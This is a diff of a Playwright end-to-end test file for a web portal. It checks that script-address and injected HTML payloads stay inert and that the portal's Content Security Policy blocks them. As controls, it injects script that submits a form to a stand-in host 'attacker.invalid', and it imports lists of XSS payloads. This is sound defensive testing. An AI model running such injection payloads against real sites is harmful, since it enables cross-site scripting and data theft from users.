@@ -1,27 +1,27 @@
-import type { Browser, Page } from "@playwright/test";
-import { afterAll, beforeAll, expect, test } from "vitest";
+import { expect, type Page } from "@playwright/test";
 import { attackerHost, scriptPayloads } from "../../apps/server/src/testing/hostile/script-payloads.ts";
 import { sized } from "../../apps/server/src/testing/size.ts";
-import { openBrowser, signIn, type Visit, visit } from "./browser.ts";
+import { brands, type Visit } from "./browser.ts";
+import { enter } from "./given-session.ts";
 import { walk } from "./hostile-walk.ts";
 import { type Watch, watch } from "./hostile-watch.ts";
+import { test as base } from "./journey.ts";
 import { violations } from "./policy-watch.ts";
+import { quiet } from "./quiet.ts";
 import { rewrite } from "./rewrite.ts";
 
-let browser: Browser;
-beforeAll(async () => {
-  browser = await openBrowser();
+const test = base.extend<{ underWatch: (work: (visitor: Visit, watch: Watch) => Promise<void>) => Promise<void> }>({
+  underWatch: async ({ inVisit }, use) => {
+    await use((work) =>
+      inVisit(async (visitor) => {
+        const watching = await watch(visitor, new Map());
+        await work(visitor, watching);
+        // Controls provoke them, and have looked at those that they ask about.
+        visitor.faults.splice(0);
+      }),
+    );
+  },
 });
-afterAll(() => browser.close());
-
-async function watched(work: (visitor: Visit, watch: Watch) => Promise<void>): Promise<void> {
-  const visitor = await visit(browser, "harborline");
-  try {
-    await work(visitor, await watch(visitor, new Map()));
-  } finally {
-    await visitor.close();
-  }
-}
 
 /** Addresses that must never be opened, in the ways that browsers read them. */
 const addresses = [
@@ -66,43 +66,45 @@ async function withHostileAnswers(page: Page): Promise<void> {
   );
 }
 
-test(
-  "36 addresses that are scripts lead nowhere, and formatted texts that nobody sanitised stay text, even if a server says them",
-  { timeout: sized(300_000, 3_600_000) },
-  () =>
-    watched(async (visitor, watching) => {
-      const { page, at, context } = visitor;
-      await page.goto(at("/"));
-      await signIn(visitor, "harborline");
-      const home = new URL(page.url()).pathname;
-      await withHostileAnswers(page);
-      const kinds = await walk(
-        visitor,
-        watching,
-        [home, `${home}/companies`, `${home}/amenities`, "/my-history"],
-        sized(2, 1_000),
-      );
-      expect(kinds.length).toBeGreaterThan(8);
-      // What is left to press is pressed: nothing opens but what the portal itself has.
+test("36 addresses that are scripts lead nowhere, and formatted texts that nobody sanitised stay text, even if a server says them", ({
+  underWatch,
+}) => {
+  test.setTimeout(sized(300_000, 3_600_000));
+  return underWatch(async (visitor, watching) => {
+    const { page, at, context } = visitor;
+    await enter(visitor, brands.harborline.email);
+    const home = new URL(page.url()).pathname;
+    await withHostileAnswers(page);
+    const kinds = await walk(
+      visitor,
+      watching,
+      [home, `${home}/companies`, `${home}/amenities`, "/my-history"],
+      sized(2, 1_000),
+    );
+    expect(kinds.length).toBeGreaterThan(8);
+    // What is left to press is pressed: nothing opens but what the portal itself has.
+    await page.goto(at(home));
+    await page.getByRole("heading", { level: 1 }).first().waitFor();
+    await quiet(page);
+    const presses = page.locator("main a[target=_blank], main button:visible");
+    for (let index = 0; index < (await presses.count()); index += 1) {
+      if (!(await presses.nth(index).isEnabled())) continue;
+      await presses.nth(index).click();
+      await quiet(page);
+      await watching.look(`home, after control ${index + 1}`);
+      for (const other of context.pages().slice(1)) await other.close();
       await page.goto(at(home));
-      await page.getByRole("heading", { level: 1 }).first().waitFor();
-      await page.waitForLoadState("networkidle");
-      const presses = page.locator("main a[target=_blank], main button:visible");
-      for (let index = 0; index < (await presses.count()); index += 1) {
-        if (!(await presses.nth(index).isEnabled())) continue;
-        await presses.nth(index).click();
-        await page.waitForLoadState("networkidle");
-        await watching.look(`home, after control ${index + 1}`);
-        for (const other of context.pages().slice(1)) await other.close();
-        await page.goto(at(home));
-        await page.waitForLoadState("networkidle");
-      }
-      expect(watching.deeds.filter((deed) => !byTheSanitiser.test(deed))).toEqual([]);
-    }),
-);
+      await quiet(page);
+    }
+    await watching.look("home, at the end");
+    expect(watching.deeds.filter((deed) => !byTheSanitiser.test(deed))).toEqual([]);
+  });
+});
 
-test("36 the control: the same payloads in a page that takes them for HTML run, ask the attacker's host and are found", () =>
-  watched(async ({ page }, watching) => {
+test("36 the control: the same payloads in a page that takes them for HTML run, ask the attacker's host and are found", ({
+  underWatch,
+}) =>
+  underWatch(async ({ page }, watching) => {
     await page.route(/control\.localhost|attacker\.invalid/, (route) =>
       route.fulfill({ contentType: "text/html", body: "" }),
     );
@@ -119,8 +121,8 @@ test("36 the control: the same payloads in a page that takes them for HTML run, 
     expect(deeds).toContain(`${attackerHost}/pixel.gif was asked for`);
   }));
 
-test("36 37 the control: on a page of the portal its policy keeps them from running, and says so", () =>
-  watched(async ({ page, at }, watching) => {
+test("36 37 the control: on a page of the portal its policy keeps them from running, and says so", ({ underWatch }) =>
+  underWatch(async ({ page, at }, watching) => {
     await page.goto(at("/"));
     await page.getByRole("heading", { level: 1 }).first().waitFor();
     expect(violations()).toEqual([]);
@@ -132,10 +134,13 @@ test("36 37 the control: on a page of the portal its policy keeps them from runn
       "const form = document.createElement('form'); form.action = 'https://attacker.invalid/'; document.body.append(form); form.submit()",
     ];
     for (const one of tries) await page.evaluate(`{ ${one} }`).catch(() => undefined);
-    await page.waitForLoadState("networkidle");
-    const said = violations().join("\n");
-    for (const directive of [/require-trusted-types-for/, /script-src/, /base-uri/, /form-action/])
-      expect(said).toMatch(directive);
+    const said: string[] = [];
+    const unsaid = () => {
+      said.push(...violations());
+      const directives = ["require-trusted-types-for", "script-src", "base-uri", "form-action"];
+      return directives.filter((one) => !said.some((text) => text.includes(one)));
+    };
+    await expect.poll(unsaid).toEqual([]);
     await watching.look("the landing page");
     expect(watching.deeds.filter((deed) => deed.startsWith("a payload ran"))).toEqual([]);
     expect(watching.deeds.join("\n")).toMatch(/Content Security Policy|TrustedScript/);
